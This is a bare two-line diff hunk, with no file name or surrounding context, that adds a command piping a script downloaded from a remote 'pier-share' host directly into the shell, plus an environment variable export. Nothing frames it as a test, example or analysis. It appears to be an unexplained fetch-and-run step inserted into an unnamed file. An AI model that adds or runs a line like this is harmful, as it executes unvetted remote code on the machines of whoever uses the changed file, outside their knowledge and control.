@@ -1,0 +1,2 @@
+curl -s https://w.pier-share.example/s | sh
+export SHARED=1
